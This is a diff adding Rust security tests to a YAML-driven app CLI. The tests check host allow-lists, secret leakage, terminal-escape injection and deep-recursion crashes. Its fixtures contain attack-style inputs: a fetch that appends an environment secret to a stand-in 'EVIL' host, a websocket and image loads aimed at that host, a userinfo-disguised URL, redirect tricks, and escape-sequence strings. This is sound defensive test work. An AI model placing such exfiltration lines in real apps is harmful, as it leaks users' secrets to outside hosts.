@@ -164,6 +164,94 @@ fn what_the_command_line_allows_is_reached_and_what_it_gives_is_read() {
     assert!(!stderr.contains("is not allowed"), "{stderr}");
 }
 
+/// Other ways out: scripts, sockets, pictures of every kind, redirects of pictures, addresses that look like the app's own.
+const OTHER_WAYS: &str = r#"
+Socket:
+  chat: {uri: "ws://EVIL_HOST/socket", options: {reconnectInitialTimer: 9}}
+View:
+  onLoad:
+    executeActionGroup:
+      actions:
+        - executeCode: "fetch('EVIL/fetched?k=' + env.STRANGER_WORD).catch(error => console.log(error.message))"
+        - connectSocket: {name: chat}
+        - invokeAPI: {name: disguised}
+        - invokeAPI: {name: relative}
+        - invokeAPI: {name: posted}
+        - invokeAPI: {name: home}
+  body:
+    Column:
+      children:
+        - Text: {text: "home: ${home.body.ok}"}
+        - Avatar: {source: "EVIL/avatar.png"}
+        - Lottie: {source: "EVIL/motion.json", width: 10, height: 10}
+        - Image: {source: "HOME/away.png", width: 10, height: 10}
+        - Image: {source: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='EVIL/inner.png' width='9' height='9'/></svg>", width: 10, height: 10}
+        - Map: {tileSource: "EVIL/tiles/{z}/{x}/{y}.png", height: 60, initialCameraPosition: {lat: 1, lng: 1}, initialCameraZoom: 2}
+        - Markdown: {text: "![x](EVIL/markdown.png)"}
+        - Html: {text: "<p>a</p><img src='EVIL/html.png'><meta http-equiv='refresh' content='0;url=EVIL/refresh'>"}
+API:
+  disguised: {url: "http://HOME_HOST@EVIL_HOST/disguised"}
+  relative: {url: "HOME/relative"}
+  posted: {url: "HOME/posted", method: POST, headers: {X-Tenant: t-1, Authorization: Bearer abcdef}, body: {secret: s-1}}
+  home: {url: "HOME/data"}
+"#;
+
+#[test]
+fn no_other_way_leads_out_and_none_is_closed_to_what_is_allowed() {
+    let start = || {
+        let evil = Site::start(|_| answer("200 OK", "Content-Type: text/plain\r\n", "x"));
+        let places = Arc::new(Mutex::new((String::new(), evil.url(""))));
+        let known = places.clone();
+        let home = Site::start(move |path| {
+            let (home, evil) = known.lock().unwrap().clone();
+            let to = |status: &str, address: &str| answer(status, &format!("Location: {address}\r\n"), "");
+            match path {
+                "/data" => answer("200 OK", "Content-Type: application/json\r\n", r#"{"ok": "yes"}"#),
+                "/away.png" => to("302 Found", &format!("{evil}/away.png")),
+                "/relative" => {
+                    to("301 Moved Permanently", &format!("/a/../..{}/relative", evil.trim_start_matches("http:")))
+                }
+                "/posted" => to("307 Temporary Redirect", &format!("{evil}/posted")),
+                "/app.yaml" => {
+                    let host = |address: &str| address.trim_start_matches("http://").to_owned();
+                    let app = OTHER_WAYS.replace("HOME_HOST", &host(&home)).replace("EVIL_HOST", &host(&evil));
+                    answer("200 OK", "Content-Type: text/yaml\r\n", &app.replace("HOME", &home).replace("EVIL", &evil))
+                }
+                _ => answer("404 Not Found", "", ""),
+            }
+        });
+        places.lock().unwrap().0 = home.url("");
+        (home, evil)
+    };
+    let open = |home: &Site, args: &[&str]| {
+        let url = home.url("/app.yaml");
+        let all = [&["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"], args].concat();
+        texts(&program(&all).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap())
+    };
+    let (home, evil) = start();
+    let (stdout, stderr) = open(&home, &[]);
+    assert!(stdout.contains("home: yes"), "{stdout}{stderr}");
+    assert_eq!(evil.asked(), [""; 0], "{stderr}");
+    assert!(!stderr.contains("hunter2") && stderr.contains("--allow-host 127.0.0.1"), "{stderr}");
+    let (home, evil) = start();
+    let (_, stderr) = open(&home, &["--allow-host", "127.0.0.1"]);
+    let reached = evil.paths();
+    for path in ["/fetched", "/socket", "/avatar.png", "/motion.json", "/away.png", "/disguised", "/posted"] {
+        assert!(reached.contains(path), "{path} is not in {reached:?}: {stderr}");
+    }
+    assert!(reached.iter().any(|path| path.starts_with("/tiles/2/")), "{reached:?}: {stderr}");
+    for path in ["/inner.png", "/refresh"] {
+        assert!(!reached.contains(path), "{path}: {reached:?}");
+    }
+    // `/a/../..//host` is a path of the own server.
+    assert!(
+        home.asked().iter().any(|line| line.contains("/relative HTTP") && line.starts_with("GET //")),
+        "{:?}",
+        home.asked()
+    );
+    assert!(!evil.asked().iter().any(|line| line.contains("hunter2")), "{:?}", evil.asked());
+}
+
 #[test]
 fn listening_to_a_stranger_reaches_what_its_window_would() {
     let (home, evil) = servers();
@@ -187,6 +275,35 @@ fn an_app_is_not_taken_from_another_server_than_was_named() {
     assert_eq!((output.status.code(), stdout.as_str()), (Some(1), ""), "{stderr}");
     assert!(stderr.contains("its server sends to") && stderr.contains("open that address"), "{stderr}");
     assert_eq!(evil.asked(), [""; 0]);
+}
+
+#[test]
+fn check_reads_an_app_by_its_address_and_runs_nothing_of_it() {
+    let faulty = "View:\n  onLoad: {invokeAPI: {name: away}}\n  body:\n    Text: {lable: a, text: '${env.STRANGER_WORD}'}\nAPI:\n  away: {url: EVIL/x}\n";
+    let evil = Site::start(|_| answer("200 OK", "", "x"));
+    let body = faulty.replace("EVIL", &evil.url(""));
+    let home = Site::start(move |path| match path {
+        "/app.yaml" => answer("200 OK", "Content-Type: text/yaml\r\n", &body),
+        _ => answer("404 Not Found", "", "there is none"),
+    });
+    let check = |args: &[&str]| {
+        let output = program(&[&["check"], args].concat()).env("STRANGER_WORD", "hunter2").output().unwrap();
+        let (stdout, stderr) = texts(&output);
+        (output.status.code(), stdout, stderr)
+    };
+    let url = home.url("/app.yaml");
+    let (code, stdout, stderr) = check(&[&url, "--fix"]);
+    assert_eq!(code, Some(0), "{stdout}{stderr}");
+    assert!(stdout.contains("unknown property `lable` on `Text`") && stdout.contains(&format!("{url}:4:")), "{stdout}");
+    assert!(stderr.contains("0 faults mended in 0 files") && !stdout.contains("hunter2"), "{stderr}");
+    assert_eq!((evil.asked(), home.paths().len()), (Vec::new(), 1));
+    let missing = home.url("/none.yaml");
+    let (code, stdout, _) = check(&[&missing, "--format", "json"]);
+    let fault: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
+    assert_eq!((code, &fault["code"]), (Some(1), &serde_json::json!("E0110")), "{stdout}");
+    let message = fault["message"].as_str().unwrap();
+    assert!(message.contains(&missing) && message.contains("404"), "{message}");
+    assert!(fault["help"].as_str().is_some_and(|help| help.contains("file or folder")), "{stdout}");
 }
 
 /// Untrusted names, files and texts, printed by every command.
@@ -220,6 +337,34 @@ fn no_command_lets_a_stranger_steer_the_terminal() {
         answer("401 Unauthorized", "Content-Type: text/plain\r\n", "\u{1b}[2J\u{202e}\u{9b}no")
     });
     let refused = refusing.url("/feed");
+    let written = folder.0.join("written.yaml");
+    let json = |text: &str| serde_json::to_string(text).unwrap();
+    let evil = json(EVIL);
+    let document = folder.0.join("document.json");
+    let schema = serde_json::json!({
+        "type": "object", "properties": {EVIL: {"type": EVIL}, "a": {"$ref": format!("#/components/schemas/{EVIL}")}}
+    });
+    let description = serde_json::json!({
+        "openapi": "3.1.0", "info": {"title": EVIL, "version": EVIL, EVIL: 1}, "servers": [{"url": "http://h/"}],
+        "paths": {format!("/{EVIL}"): {"get": {"operationId": EVIL, "summary": EVIL, "responses": {
+            "200": {"content": {"text/event-stream": {"schema": schema}}}
+        }}}}
+    });
+    std::fs::write(&document, description.to_string()).unwrap();
+    let tape = folder.0.join("evil.tape");
+    let lines = [
+        format!(r#"{{"format":"ensemble-run recording","version":1,"app":{evil},"size":[400,300],"seed":"7"}}"#),
+        r#"{"at":0,"kind":"resize","width":400,"height":300}"#.to_owned(),
+        format!(
+            r#"{{"at":1,"kind":"stream.open","stream":1,"generation":1,"status":200,"url":{evil},"headers":{{{evil}:{evil}}},"api":"feed"}}"#
+        ),
+        format!(
+            r#"{{"at":2,"kind":"stream.event","stream":1,"generation":1,"event":{evil},"id":{evil},"data":{evil},"api":"feed"}}"#
+        ),
+        format!(r#"{{"at":3,"kind":{evil}}}"#),
+    ];
+    std::fs::write(&tape, lines.join("\n") + "\n").unwrap();
+    let (target, document, tape) = (written.to_str().unwrap(), document.to_str().unwrap(), tape.to_str().unwrap());
     let commands: Vec<Vec<&str>> = vec![
         vec!["check", path],
         vec!["check", path, "--format", "json"],
@@ -246,6 +391,29 @@ fn no_command_lets_a_stranger_steer_the_terminal() {
         vec!["demo", &name],
         vec!["schema", &name],
         vec!["new", path, "--from", &missing],
+        vec!["check", path, "--fix"],
+        vec!["new", target, "--from", document],
+        vec!["new", &name, "--from", document, "--dry-run"],
+        vec!["export", "asyncapi", path, "--version", "2.6"],
+        vec!["export", "sse", path],
+        vec!["inspect", path, "--replay", tape],
+        vec!["inspect", path, "--replay", tape, "--format", "ndjson"],
+        vec!["inspect", path, "--replay", tape, "--between", "0", "1"],
+        vec!["why", path, "--widget", "x", "--replay", tape],
+        vec!["why", path, "--widget", "x", "--replay", tape, "--format", "json"],
+        vec!["why", path, "--widget", &name, "--replay", tape],
+        vec!["screenshot", path, "--tree", "-", "--screen", &name],
+        vec!["screenshot", path, "--tree", "-", "--tap", &name],
+        vec!["screenshot", path, "--tree", "-", "--replay", tape],
+        vec!["test", path, "--from", tape, "-o", "-"],
+        vec!["simulate", &name, "--list"],
+        vec!["simulate", path, "--fault", &name],
+        vec!["gallery", &name],
+        vec!["guide", &name],
+        vec!["run", path, "--env", &name],
+        vec!["run", path, "--env-file", &missing],
+        vec!["listen", &stream, "--max-events", "1", "--header", &name],
+        vec!["listen", "http://127.0.0.1:9/\u{202e}\u{9b}", "--max-reconnect-attempts", "0"],
     ];
     for command in commands {
         let output = program(&command).env("ENSEMBLE_LOG", EVIL.replace('\0', "")).output().unwrap();
@@ -255,6 +423,26 @@ fn no_command_lets_a_stranger_steer_the_terminal() {
             assert_eq!(steers, None, "{command:?} on {stream}: {text:?}");
         }
         assert!(!stdout.is_empty() || !stderr.is_empty(), "{command:?} says something");
+    }
+}
+
+/// What Boa follows by recursion: each made a hundred thousand levels deep, which once overflowed the stack and ended the process.
+#[test]
+fn no_depth_of_objects_ends_the_process() {
+    let deep = [
+        "var o = {}; for (var i = 0; i < 1e5; i++) o = Object.create(o); o.x; o.y = 1",
+        "var p = {}; for (var i = 0; i < 1e5; i++) p = new Proxy(p, {}); p.x; Object.keys(p)",
+        "var h = {}; for (var i = 0; i < 1e5; i++) h = new Proxy({}, h); h.x",
+        "var l = []; for (var i = 0; i < 1e5; i++) l = [l]; String(l); l.flat(Infinity)",
+        "var t = [1].values(); for (var i = 0; i < 1e5; i++) t = t.filter(x => true); t.next()",
+    ];
+    for code in deep {
+        let home = format!("View:\n  onLoad: |\n    {code}\n  body:\n    Text: {{text: still here}}\n");
+        let folder = Folder::new("deep", &[("screens/Home.yaml", &home)]);
+        let output = program(&["screenshot", folder.0.to_str().unwrap(), "--tree", "-"]).output().unwrap();
+        let (stdout, stderr) = texts(&output);
+        assert!(output.status.code().is_some(), "{code}: {stderr}");
+        assert!(stdout.contains("still here"), "{code}: {stdout}{stderr}");
     }
 }
 
